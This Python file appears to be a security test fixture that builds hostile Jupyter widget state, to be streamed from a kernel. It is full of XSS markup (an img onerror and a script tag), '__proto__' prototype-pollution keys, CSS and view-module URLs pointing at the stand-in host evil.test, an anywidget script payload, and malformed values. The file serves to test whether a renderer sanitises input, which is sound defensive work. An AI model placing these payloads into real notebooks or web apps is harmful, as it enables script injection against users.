"""A mirrored widget as somebody would make it who wants more than to be looked at.

Run in a kernel: the stream is that of a mirrored widget, its rows are made by hand.
"""

from __future__ import annotations

import json

MARKUP = '<img src="http://evil.test/x.png" onerror="window.pwned = 1"><script>pwned = 1</script>'
CONTROLS = "@jupyter-widgets/controls"


def model(name: str, module: str = CONTROLS, **state: object) -> dict[str, object]:
    """Make one model as the kernel would tell it."""
    return {
        "model_name": name,
        "model_module": module,
        "state": {**state, "__proto__": {"polluted": 1}},
    }


MODELS = {
    "__proto__": model("ObjectModel", polluted=1),
    "html": model("HTMLModel", _view_name="HTMLView", value=MARKUP, description="html"),
    "math": model("HTMLMathModel", _view_name="HTMLMathView", value=MARKUP),
    "named": model(
        "TextModel", _view_name="TextView", value="", placeholder=MARKUP, tooltip=MARKUP,
        description=MARKUP, description_allow_html=True, disabled=False,
    ),
    "ticked": model(
        "CheckboxModel", _view_name="CheckboxView", value=True, disabled=False,
        description=MARKUP, description_allow_html=True,
    ),
    "toggled": model(
        "ToggleButtonsModel", _view_name="ToggleButtonsView", index=0, disabled=False,
        _options_labels=[MARKUP], icons=[MARKUP], tooltips=[MARKUP], style="IPY_MODEL_style",
    ),
    "style": model("ToggleButtonsStyleModel", button_width="url(http://evil.test/w)"),
    "label": model(
        "LabelModel", _view_name="LabelView", value=MARKUP, style="IPY_MODEL_paint",
        _dom_classes=["a b", MARKUP],
    ),
    "paint": model("LabelStyleModel", background="url(http://evil.test/paint.png)"),
    "theirs": model(
        "AnyModel", "anywidget", _esm="window.pwned = 1", _css=MARKUP, value={"a": MARKUP},
        _view_module="anywidget", _view_name="AnyView",
    ),
    "viewed": model("ButtonModel", _view_module="http://evil.test/view.js", _view_name="Evil"),
    "picture": model(
        "ImageModel", _view_name="ImageView", format="url", value="http://evil.test/i.png"
    ),
    "film": model("VideoModel", _view_name="VideoView", format="url", value="http://evil.test/v"),
    "printed": model(
        "OutputModel", "@jupyter-widgets/output",
        outputs=[{"data": {"text/html": MARKUP, "text/plain": "a table"}}],
    ),
    "backwards": model(
        "FloatSliderModel", _view_name="FloatSliderView", value=1, min=9, max=0, step="x",
        description="backwards", disabled=False, readout_format="999999999d",
    ),
    "undated": model("DatePickerModel", _view_name="DatePickerView", value="soon", disabled=False),
    "pages": model(
        "TabModel", _view_name="TabView", titles=[MARKUP], selected_index=0,
        children=["IPY_MODEL_gone", "IPY_MODEL_label"],
    ),
    "folded": model(
        "AccordionModel", _view_name="AccordionView", titles=[MARKUP], selected_index=7,
        children=["IPY_MODEL_label"],
    ),
}  # fmt: skip
BOX = model(
    "VBoxModel",
    _view_name="VBoxView",
    box_style=MARKUP,
    children=[f"IPY_MODEL_{n}" for n in MODELS],
)
LOOP = model("VBoxModel", _view_name="VBoxView", children=["IPY_MODEL_root"])


def row(**models: object) -> str:
    """Write the row of a mirrored widget; the model `root` is what is shown."""
    settable = {name: ["value", "index"] for name in models}
    told = {"version_major": 2, "version_minor": 0, "view": "root", "event": "widget:evil"}
    return json.dumps({**told, "settable": settable, "state": models})


def code(name: str, row: str) -> str:
    """Write what tells it in a kernel."""
    return f"""
import json, jupyter_sio as sio
evil = sio.stream("widget/{name}", media="application/x-ndjson", mode="latest")
evil.push(json.loads({row!r}))
evil.flush()
"""
